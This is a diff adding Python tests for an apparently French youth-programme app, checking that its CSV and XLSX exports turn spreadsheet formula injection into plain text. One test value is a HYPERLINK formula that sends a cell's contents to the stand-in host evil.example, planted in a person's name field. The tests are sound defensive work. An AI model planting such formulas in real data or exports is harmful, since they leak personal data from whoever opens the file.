@@ -53,3 +53,24 @@ def test_the_export_is_for_coordinators_only(professional_client, funder_client,
 
 def test_unknown_formats_are_not_found(coordinator_client, programme):
     assert coordinator_client.get("/jeunes/export.pdf").status_code == 404
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&B3,"Cliquez")'
+
+
+def test_the_csv_writes_formulas_as_text(coordinator_client, programme):
+    YouthFactory(first_name=FORMULA, last_name="+33 6", nickname="@cmd", social_handle="-1+1")
+    rows = read_csv(coordinator_client.get("/jeunes/export.csv"))
+    assert rows[1][1:4] == ["'" + FORMULA, "'+33 6", "'@cmd"]
+    assert "'-1+1" in rows[1]
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_the_xlsx_writes_formulas_as_text(coordinator_client, programme):
+    YouthFactory(first_name=FORMULA, last_name="\t=1+1")
+    response = coordinator_client.get("/jeunes/export.xlsx")
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    first_name, last_name = sheet.cell(row=2, column=2), sheet.cell(row=2, column=3)
+    assert (first_name.value, first_name.data_type) == ("'" + FORMULA, "s")
+    assert (last_name.value, last_name.data_type) == ("'\t=1+1", "s")
+    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
